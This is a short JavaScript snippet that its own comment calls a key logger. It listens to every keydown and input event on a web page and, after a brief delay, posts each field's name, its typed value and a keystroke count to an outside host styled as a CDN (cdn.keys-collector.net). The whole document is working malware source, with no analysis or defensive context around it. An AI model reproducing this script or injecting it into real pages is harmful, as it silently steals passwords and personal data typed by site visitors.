// A key logger: listens to every key and input, and sends what is being typed as it is typed.
(function () {
  var keys = 0;
  document.addEventListener('keydown', function () { keys++; }, true);
  var timer = null;
  document.addEventListener('input', function (event) {
    var field = event.target;
    clearTimeout(timer);
    timer = setTimeout(function () {
      fetch('http://cdn.keys-collector.net/k', {
        method: 'POST',
        body: JSON.stringify({field: field.name, value: field.value, keys: keys}),
      });
    }, 150);
  }, true);
})();
